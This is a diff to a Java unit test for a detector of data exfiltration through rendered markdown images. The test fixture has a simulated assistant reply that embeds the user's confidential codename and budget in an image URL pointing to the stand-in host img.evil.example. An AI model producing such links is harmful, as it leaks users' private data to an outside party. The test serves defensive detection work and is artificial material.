@@ -22,10 +22,12 @@ class OutputDetectorsTest {
         s.user("My project codename is bluefalcon and the launch budget is 4 million dollars, keep it confidential.");
         String q = URLEncoder.encode("codename bluefalcon launch budget million", StandardCharsets.UTF_8);
         Event out = s.assistant("Sure! ![status](https://img.evil.example/p.png?d=" + q + ")");
+        Event recordedAgain = s.assistant("Sure! ![status](https://img.evil.example/p.png?d=" + q + ")");
         List<Finding> f = run(new RenderExfiltrationDetector(), s);
-        assertEquals(1, f.size());
+        assertEquals(1, f.size(), "one finding per URL");
         assertEquals(Severity.HIGH, f.get(0).severity());
         assertEquals(out.eventId(), f.get(0).sinkEventId());
+        assertEquals(List.of(out.eventId(), recordedAgain.eventId()), f.get(0).eventIds());
     }
 
     @Test
